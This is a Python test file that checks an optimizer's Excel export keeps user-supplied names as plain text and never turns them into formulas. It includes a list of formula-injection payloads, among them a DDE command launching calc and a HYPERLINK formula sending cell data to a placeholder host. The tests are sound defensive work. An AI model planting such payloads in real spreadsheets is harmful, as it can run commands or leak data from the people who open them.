"""Safety: user text stays text (workbooks, the page's Markdown, plotly labels), per-client
plans hold one client's names only, and the scenario-file box stays inside its folder."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from optimizer.bundle import (
    parse_tables,
    read_tables,
    read_xlsx_bytes,
    settings_dict,
    tables_to_xlsx_bytes,
    write_bundle,
)
from optimizer.schema import CLIENTS, METHODS, RESOURCES, Settings

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample_data"

# Text a spreadsheet would take for a formula, a link, a number or an escape, and Unicode.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "=cmd|' /C calc'!'A1'",
    "+SUM(1,2)",
    "-1+2",
    "@SUM(A1:A3)",
    "'=1+1",
    "'quoted",
    "  spaced  ",
    "=1+1",
    "Café",
    "Cafe\u0301",
    "_x0041_ literal",
    "tab\there",
    "two\nlines",
    "0042",
    "1e3",
    "TRUE",
    "http://example.invalid/x",
    "Ελληνικά 中文 😀",
]


def _sample_tables() -> dict[str, pd.DataFrame]:
    tables, _, issues = read_tables(SAMPLE)
    assert not [i for i in issues if i.severity == "error"]
    return tables


def _hostile_tables() -> dict[str, pd.DataFrame]:
    tables = _sample_tables()
    cli = tables[CLIENTS].copy()
    for i in range(len(cli)):
        cli.loc[i, "name"] = HOSTILE[i % len(HOSTILE)]
        cli.loc[i, "segment"] = HOSTILE[(i + 3) % len(HOSTILE)]
    tables[CLIENTS] = cli
    met = tables[METHODS].copy()
    for i in range(len(met)):
        met.loc[i, "name"] = HOSTILE[(i + 7) % len(HOSTILE)]
        met.loc[i, "unit"] = HOSTILE[(i + 11) % len(HOSTILE)]
    tables[METHODS] = met
    res = tables[RESOURCES].copy()
    res.loc[0, "name"] = "=1+1"
    tables[RESOURCES] = res
    return tables


def _no_formulas(data: bytes) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def test_inputs_workbook_writes_text_as_strings_and_round_trips() -> None:
    tables = _hostile_tables()
    data = tables_to_xlsx_bytes(tables, settings_dict(Settings()))
    _no_formulas(data)
    back, _, issues = read_xlsx_bytes(data)
    assert not [i for i in issues if i.severity == "error"]
    for t, frame in tables.items():
        got = back[t]
        assert list(got.columns) == list(frame.columns), t
        for col in ("name", "segment", "unit"):
            if col in frame.columns:
                assert got[col].tolist() == frame[col].tolist(), (t, col)
    assert parse_tables(back).fingerprint() == parse_tables(tables).fingerprint()


def test_dashboard_download_keeps_number_like_names_as_typed() -> None:
    from ui.cells import typed_tables

    tables = _hostile_tables()
    data = tables_to_xlsx_bytes(typed_tables(tables), settings_dict(Settings()))
    _no_formulas(data)
    back, _, _ = read_xlsx_bytes(data)
    # The dashboard's tables hold stripped text: every name comes back as it was held.
    want = [str(n).strip() for n in tables[CLIENTS]["name"]]
    assert back[CLIENTS]["name"].tolist() == want
    assert parse_tables(back).fingerprint() == parse_tables(tables).fingerprint()
    # Numbers stay numbers in the workbook.
    ws = openpyxl.load_workbook(io.BytesIO(data))["resources"]
    assert isinstance(ws["D2"].value, int | float), ws["D2"].value


def test_write_bundle_xlsx_round_trips_hostile_names(tmp_path: Path) -> None:
    problem = parse_tables(_hostile_tables())
    path = write_bundle(problem, tmp_path / "bundle.xlsx")
    _no_formulas(path.read_bytes())
    back = parse_tables(read_tables(path)[0])
    assert back.clients["name"].tolist() == problem.clients["name"].tolist()
    assert back.methods["name"].tolist() == problem.methods["name"].tolist()
    assert back.fingerprint() == problem.fingerprint()


@pytest.mark.parametrize("payload", HOSTILE)
def test_one_hostile_cell_round_trips(payload: str) -> None:
    frame = pd.DataFrame({"client_id": ["c1"], "name": [payload]}, dtype=object)
    data = tables_to_xlsx_bytes({CLIENTS: frame}, {})
    _no_formulas(data)
    back, _, _ = read_xlsx_bytes(data)
    assert back[CLIENTS]["name"].tolist() == [payload]
